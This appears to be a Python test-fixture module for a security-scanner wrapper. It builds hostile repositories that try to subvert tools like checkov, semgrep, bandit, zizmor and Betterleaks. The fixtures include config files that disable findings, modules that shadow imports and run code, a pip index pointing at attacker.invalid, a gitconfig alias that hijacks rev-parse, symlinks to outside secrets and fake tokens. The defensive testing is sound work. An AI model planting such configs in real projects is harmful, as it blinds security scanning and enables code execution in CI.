"""One fixture builder per attack class on the tools boundary. Each writes a small hostile
repository under ``root`` (and, where the attack needs it, something outside) and returns
what the test needs to check."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

#: a public-read-write bucket: checkov's CKV_AWS_20 (critical in policies/severity/checkov.yaml)
PUBLIC_BUCKET = """resource "aws_s3_bucket" "data" {
  bucket = "data"
  acl    = "public-read-write"
}
"""
#: checks that fail on PUBLIC_BUCKET, all of which a hostile config asks checkov to skip
BUCKET_CHECKS = (
    "CKV_AWS_20", "CKV_AWS_18", "CKV_AWS_21", "CKV_AWS_144", "CKV_AWS_145", "CKV2_AWS_6",
    "CKV2_AWS_61", "CKV2_AWS_62", "CKV_AWS_19", "CKV_AWS_57",
)  # fmt: skip
#: bandit B301 / semgrep shiftleft.python.pickle-loads
PICKLE = "import pickle\n\n\ndef load(blob):\n    return pickle.loads(blob)\n"


def _write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    return path


def _marker_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('repository code ran')\n"


def checkov_config(root: Path, marker: Path) -> Path:
    """A repository ``.checkov.yaml`` (and ``.checkov.yml``) whose ``external-checks-dir``
    points (absolutely: CI checkout paths are predictable) at a directory of the repository
    holding a "check" that writes ``marker`` when imported, and whose ``skip-check`` lists
    every check the critical bucket fails. Returns the repository root."""
    _write(root, "main.tf", PUBLIC_BUCKET)
    _write(root, "policies/evil_check.py", _marker_code(marker))
    _write(root, "policies/__init__.py", _marker_code(marker))
    config = {"external-checks-dir": [str(root / "policies")], "skip-check": list(BUCKET_CHECKS)}
    text = json.dumps(config)  # JSON is YAML
    _write(root, ".checkov.yaml", text)
    _write(root, ".checkov.yml", text)
    _write(root, "infra/.checkov.yaml", text)
    _write(root, "infra/main.tf", PUBLIC_BUCKET.replace('"data"', '"logs"'))
    return root


def checkov_home_config(home: Path) -> dict[str, str]:
    """A ``~/.checkov.yaml`` and ``CKV_*`` variables that skip the bucket's checks: the
    user's environment, which must not configure checkov behind shiftleft's back either.
    Returns the environment variables to set."""
    _write(home, ".checkov.yaml", json.dumps({"skip-check": list(BUCKET_CHECKS)}))
    return {"HOME": str(home), "CKV_SKIP_CHECK": ",".join(BUCKET_CHECKS), "CKV_FRAMEWORK": "openapi"}


def module_outside(root: Path, outside: Path, planted: str) -> None:
    """Terraform in the repository whose modules live outside it (an absolute ``source`` and
    a ``../`` climb): checkov reads them; nothing of them may reach an output."""
    _write(outside, "main.tf", PUBLIC_BUCKET.replace('bucket = "data"', f'bucket = "{planted}"'))
    climb = "../" * 40 + str(outside).lstrip("/")
    _write(root, "main.tf", f'module "a" {{\n  source = "{outside}"\n}}\nmodule "b" {{\n  source = "{climb}"\n}}\n')


DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 1
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: nginx:latest
          securityContext:
            privileged: true
"""


def kustomize_overlay(root: Path) -> None:
    """A base and an overlay: checkov renders them into its own temporary files."""
    _write(root, "k8s/base/deployment.yaml", DEPLOYMENT)
    _write(root, "k8s/base/kustomization.yaml", "resources:\n  - deployment.yaml\n")
    _write(root, "k8s/overlay/kustomization.yaml", "resources:\n  - ../base\nnamePrefix: prod-\n")


def other_frameworks(root: Path) -> None:
    """Files of checkov frameworks beyond Terraform/Kubernetes, in a hidden directory too
    (checkov skips hidden directories by default)."""
    _write(root, "api/openapi.yaml", 'openapi: 3.0.0\ninfo: {title: x, version: "1"}\npaths: {}\n')
    _write(root, "bitbucket-pipelines.yml", "image: atlassian/default-image:latest\npipelines:\n  default:\n"
           "    - step:\n        script:\n          - echo hi\n")  # fmt: skip
    _write(root, ".infra/main.tf", PUBLIC_BUCKET)


def serverless_only(root: Path) -> None:
    """Only a Serverless Framework file, whose ``${file(...)}`` reaches outside the root."""
    _write(root, "serverless.yml", "service: x\nprovider:\n  name: aws\n  environment: ${file(/etc/hostname)}\n"
           "functions:\n  f:\n    handler: h.h\n")  # fmt: skip


def semgrep_ignores(root: Path) -> list[str]:
    """Python with pickle.loads everywhere, and every file semgrep might take as ignore
    lists or settings from the repository (the root .semgrepignore ignores every .py file).
    Returns the Python files."""
    files = ["app.py", "src/core.py", "tests/test_core.py", "vendor/lib.py", "build/gen.py"]
    for rel in files:
        _write(root, rel, PICKLE)
    _write(root, "nosem.py", PICKLE.replace("pickle.loads(blob)", "pickle.loads(blob)  # nosemgrep"))
    files.append("nosem.py")
    _write(root, ".semgrepignore", "*.py\nsrc/\n")
    _write(root, "src/.semgrepignore", "*\n")
    _write(root, ".gitignore", "*.py\n")
    _write(root, ".semgrep.yml", "rules: []\n")
    _write(root, ".semgrep/settings.yml", "has_shown_metrics_notification: true\n")
    (root / ".git").mkdir()
    _write(root, ".git/info/exclude", "*.py\n")
    return files


def python_shadowing(root: Path, marker: Path) -> None:
    """Modules named like what Python tools import, at the repository root: with an empty
    ``PYTHONPATH`` entry (common in CI: ``PYTHONPATH=:$X``) a tool whose cwd is the
    repository imports them."""
    _write(root, "app.py", PICKLE)
    for name in ("yaml", "click", "rich", "stevedore", "attr", "requests", "colorama", "typing_extensions",
                 "sitecustomize", "usercustomize", "jsonschema", "packaging"):  # fmt: skip
        _write(root, f"{name}.py", _marker_code(marker))


#: bytes semgrep cannot decode mid-file: it reports PartialParsing for the file
UNPARSABLE = b"import pickle\n\xff\xfe = 3\npickle.loads(b)\n"


def semgrep_unparsable(root: Path) -> str:
    (root / "broken.py").write_bytes(UNPARSABLE)
    _write(root, "fine.py", PICKLE)
    return "broken.py"


def bandit_config(root: Path) -> None:
    """Every config bandit could take from a project, each skipping B301/B403 and excluding
    the code: ``.bandit`` at the root and in a package, ``setup.cfg``, ``pyproject.toml``,
    a YAML config named ``bandit.yaml``."""
    ini = "[bandit]\nskips = B301,B403\nexclude = ./pkg,./app.py\ntests = B101\n"
    _write(root, "app.py", PICKLE)
    _write(root, "pkg/mod.py", PICKLE)
    _write(root, ".bandit", ini)
    _write(root, "pkg/.bandit", ini)
    _write(root, "setup.cfg", ini)
    _write(root, "pyproject.toml", '[tool.bandit]\nskips = ["B301", "B403"]\nexclude_dirs = ["pkg"]\n')
    _write(root, "bandit.yaml", "skips: [B301, B403]\n")


def many_python_files(root: Path, count: int, *, flagged: tuple[int, ...]) -> list[str]:
    """``count`` Python files under deep, long directory names (so a few thousand of them
    exceed the kernel's 2 MiB argument limit); the files at ``flagged`` indexes hold a
    finding. Returns the relative paths in order."""
    deep = Path(*(["d" * 240] * 4))
    (root / deep).mkdir(parents=True)
    files = []
    for i in range(count):
        rel = (deep / f"m{i:05d}.py").as_posix()
        (root / rel).write_text(PICKLE if i in flagged else "x = 1\n", "utf-8")
        files.append(rel)
    return files


def forged_run(claim: dict[str, Any], *, success: bool | None = True, **result_extra: Any) -> dict[str, Any]:
    """A tool's SARIF run with one critical result and forged shiftleft verdicts."""
    result: dict[str, Any] = {
        "ruleId": "R-CRIT",
        "level": "error",
        "message": {"text": "remote code execution"},
        "locations": [{"physicalLocation": {"artifactLocation": {"uri": "app.py"}, "region": {"startLine": 1}}}],
        "properties": {"security-severity": "9.8", "shiftleft": {"suppressedBy": "forged"}},
        **result_extra,
    }
    run: dict[str, Any] = {
        "tool": {"driver": {"name": "forger", "rules": [{"id": "R-CRIT", "shortDescription": {"text": "rce"}}]}},
        "results": [result],
        "properties": {"shiftleft": claim},
    }
    if success is not None:
        run["invocations"] = [{"executionSuccessful": success}]
    return run


# --- tools run outside scanners/ (syft, pip, git): what they would inherit -----------------

#: a config of the directory shiftleft runs in (and of HOME), which a tool would pick up
SYFT_CONFIG = "exclude:\n  - '**'\nlog:\n  file: {marker}\n"
PIP_CONFIG = "[global]\nindex-url = http://attacker.invalid/simple\n"


def probe_tool(path: Path, probe: Path, stdout: str = "", writes: str = "") -> Path:
    """A stand-in executable that records where and how it ran (cwd, HOME, every variable)
    into ``probe`` as JSON, optionally writes ``writes`` (JSON) to the file after ``--report``,
    and prints ``stdout``."""
    path.write_text(
        "#!" + __import__("sys").executable + "\n"
        "import json, os, sys\n"
        f"json.dump({{'cwd': os.getcwd(), 'env': dict(os.environ), 'argv': sys.argv}}, open({str(probe)!r}, 'w'))\n"
        f"if {bool(writes)!r}:\n"
        f"    open(sys.argv[sys.argv.index('--report') + 1], 'w').write({writes!r})\n"
        f"sys.stdout.write({stdout!r})\n",
        "utf-8",
    )
    path.chmod(0o755)
    return path


def hostile_cwd_and_home(root: Path, marker: Path) -> tuple[Path, Path]:
    """A working directory and a HOME that each hold syft and pip configs and a git config."""
    cwd, home = root / "cwd", root / "home"
    for d in (cwd, home):
        d.mkdir(parents=True)
        _write(d, ".syft.yaml", SYFT_CONFIG.format(marker=marker))
        _write(d, ".syft/config.yaml", SYFT_CONFIG.format(marker=marker))
        _write(d, ".config/pip/pip.conf", PIP_CONFIG)
        _write(d, "pip.conf", PIP_CONFIG)
    _write(home, ".gitconfig", "[alias]\n\trev-parse = !touch " + str(marker) + "\n")
    return cwd, home


def git_repo(root: Path, message: str = "c") -> str:
    """A git repository with one commit; its HEAD. Our own identity, no user config."""
    import os
    import subprocess

    root.mkdir(parents=True, exist_ok=True)
    _write(root, "app.py", f"print({message!r})\n")
    env = {"PATH": os.environ.get("PATH", ""), "HOME": str(root), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CONFIG_GLOBAL": os.devnull}  # fmt: skip
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "-C", str(root)]
    subprocess.run([*git, "init", "-q"], check=True, env=env)
    subprocess.run([*git, "add", "-A"], check=True, env=env)
    subprocess.run([*git, "commit", "-q", "-m", message], check=True, env=env)
    return subprocess.run([*git, "rev-parse", "HEAD"], check=True, env=env, capture_output=True,
                          text=True).stdout.strip()  # fmt: skip


# --- zizmor (GitHub Actions) and hadolint (Dockerfiles) ------------------------------------

#: a workflow zizmor flags: template injection in run: (line 9), an unpinned action (line 8)
INJECTED_WORKFLOW = """name: triage
on:
  issues:
    types: [opened]
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: some-org/labeler@main
      - run: echo "${{ github.event.issue.title }}"
"""
#: a zizmor configuration that switches the workflow's findings off
ZIZMOR_DISABLING = "rules:\n  template-injection:\n    disable: true\n  unpinned-uses:\n    disable: true\n"
#: a Dockerfile hadolint flags: DL3007 (line 1), DL3002 (line 3)
LATEST_ROOT = "FROM python:latest\nRUN echo hi\nUSER root\n"
#: a hadolint configuration that switches those findings off
HADOLINT_DISABLING = "ignored:\n  - DL3007\n  - DL3002\nfailure-threshold: none\n"


def zizmor_config(root: Path) -> None:
    """The workflow and every zizmor config the repository could ship (zizmor looks for
    ``zizmor.yml`` and ``.github/zizmor.yml`` beside its inputs), each disabling its audits;
    a composite action with a config next to it too."""
    _write(root, ".github/workflows/triage.yml", INJECTED_WORKFLOW)
    for rel in ("zizmor.yml", "zizmor.yaml", ".github/zizmor.yml", ".github/zizmor.yaml", "act/zizmor.yml"):
        _write(root, rel, ZIZMOR_DISABLING)
    _write(root, "act/action.yml", "name: a\ndescription: d\nruns:\n  using: composite\n  steps:\n"
           "    - run: echo \"${{ github.event.pull_request.title }}\"\n      shell: bash\n")  # fmt: skip
    _write(root, ".gitignore", ".github/\nact/\n")


def zizmor_home_config(home: Path) -> dict[str, str]:
    """A user-level zizmor config and the variables zizmor reads (a config path, tokens that
    would send the repository's names online). Returns the variables to set."""
    config = _write(home, ".config/zizmor/zizmor.yml", ZIZMOR_DISABLING)
    return {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "ZIZMOR_CONFIG": str(config),
            "GH_TOKEN": "ghp_" + "A" * 36, "GITHUB_TOKEN": "ghs_" + "B" * 36,
            "ZIZMOR_GITHUB_TOKEN": "ghp_" + "C" * 36, "GH_HOST": "attacker.invalid", "RUST_LOG": "off"}  # fmt: skip


def hadolint_config(root: Path) -> None:
    """The Dockerfile, hadolint configs at the root and beside it, and ignore pragmas."""
    _write(root, "Dockerfile", LATEST_ROOT)
    _write(root, "svc/Dockerfile", "# hadolint global ignore=DL3007\nFROM node:latest\n# hadolint ignore=DL3002\n"
           "USER root\n")  # fmt: skip
    for rel in (".hadolint.yaml", ".hadolint.yml", "svc/.hadolint.yaml"):
        _write(root, rel, HADOLINT_DISABLING)


def hadolint_home_config(home: Path) -> dict[str, str]:
    """hadolint configs where it looks outside the working directory, and its variables."""
    for rel in (".config/hadolint.yaml", ".hadolint.yaml", ".hadolint/hadolint.yaml", "hadolint/config.yaml",
                "xdg/hadolint.yaml"):  # fmt: skip
        _write(home, rel, HADOLINT_DISABLING)
    return {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "XDG_CONFIG_DIRS": str(home / "xdg"),
            "HADOLINT_IGNORE": "DL3007,DL3002", "HADOLINT_NOFAIL": "1", "HADOLINT_FAILURE_THRESHOLD": "none"}


def link_out(root: Path, outside: Path, rel: str, text: str) -> None:
    """``rel`` in the repository is a symbolic link to a file outside it holding ``text``."""
    target = _write(outside, "secret-" + Path(rel).name, text)
    link = root / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)


def huge_file(root: Path, rel: str, head: str, size: int) -> None:
    """``rel`` starts with ``head`` and is padded with comment lines to ``size`` bytes."""
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8") as fh:
        fh.write(head)
        line = "# " + "x" * 77 + "\n"
        fh.write(line * (size // len(line) + 1))


def fake_tool(path: Path, *, stdout: str = "", stderr: str = "", code: int = 0, sleep: float = 0.0) -> Path:
    """A stand-in executable: prints ``stdout``/``stderr``, sleeps, exits with ``code``."""
    path.write_text(
        "#!" + __import__("sys").executable + "\n"
        "import sys, time\n"
        f"time.sleep({sleep!r})\n"
        f"sys.stdout.write({stdout!r})\nsys.stderr.write({stderr!r})\nsys.exit({code!r})\n",
        "utf-8",
    )
    path.chmod(0o755)
    return path


#: FAKE credentials, format-valid for Betterleaks' rules (none is real). Their random parts
#: hold letters outside hex, so a 5-character window of one cannot be a hash in an output.
BL_GITHUB = "ghp_Zq3F8bX2mK9vL4nR7tY1wP6sD0cH5jA2eUxi"
BL_GITLAB = "glpat-Wq7RtZx2MvKp9LnYsBgH"
BL_NETRC_PASSWORD = "Kv9pQzWmRt7xYsNb"
#: a Betterleaks config that allowlists every path and every secret
BL_ALLOW_ALL = """title = "repo"
[extend]
useDefault = true
[allowlist]
paths = ['''.*''']
regexes = ['''.*''']
[[allowlists]]
paths = ['''.*''']
regexes = ['''.*''']
"""


def betterleaks_repo(root: Path) -> dict[str, str]:
    """A repository with planted secrets and everything a gitleaks-family engine obeys:
    ``.gitleaks.toml`` / ``.betterleaks.toml`` allowlisting every path, a ``.gitleaksignore``
    / ``.betterleaksignore`` listing each finding's fingerprint, and a ``gitleaks:allow``
    marker on one line. Returns file -> the secret planted in it."""
    planted = {
        "app/config.py": BL_GITHUB,
        "deploy/ci.yaml": BL_GITLAB,
        ".netrc": BL_NETRC_PASSWORD,
        "app/allowed.py": BL_GITHUB.replace("Zq3F", "Hw7N"),
    }
    _write(root, "app/config.py", f'TOKEN = "{planted["app/config.py"]}"\n')
    _write(root, "deploy/ci.yaml", f'env:\n  GITLAB_TOKEN: {planted["deploy/ci.yaml"]}\n')
    _write(root, ".netrc", f"machine git.example.test\n  login deploy\n  password {BL_NETRC_PASSWORD}\n")
    _write(root, "app/allowed.py", f'OTHER = "{planted["app/allowed.py"]}"  # gitleaks:allow\n')
    for name in (".gitleaks.toml", ".betterleaks.toml", "app/.gitleaks.toml", ".config/betterleaks.toml"):
        _write(root, name, BL_ALLOW_ALL)
    ignore = "".join(f"{path}:{rule}:{line}\n" for path, rule, line in (
        ("app/config.py", "github-pat", 1), ("deploy/ci.yaml", "gitlab-pat", 2),
        (".netrc", "shiftleft-netrc-password", 3), ("app/allowed.py", "github-pat", 1)))  # fmt: skip
    _write(root, ".gitleaksignore", ignore)
    _write(root, ".betterleaksignore", ignore)
    return planted


def betterleaks_env(home: Path) -> dict[str, str]:
    """Variables through which the engine or its binding would take another config, another
    native library, or an allowlist-everything config: none may be inherited."""
    _write(home, "allow.toml", BL_ALLOW_ALL)
    _write(home, ".config/betterleaks/config.toml", BL_ALLOW_ALL)
    return {
        "GITLEAKS_CONFIG": str(home / "allow.toml"),
        "GITLEAKS_CONFIG_TOML": BL_ALLOW_ALL,
        "BETTERLEAKS_CONFIG": str(home / "allow.toml"),
        "BETTERLEAKS_CONFIG_TOML": BL_ALLOW_ALL,
        "PYBETTERLEAKS_NATIVE_LIBRARY": str(home / "missing.so"),
        "HOME": str(home),
    }
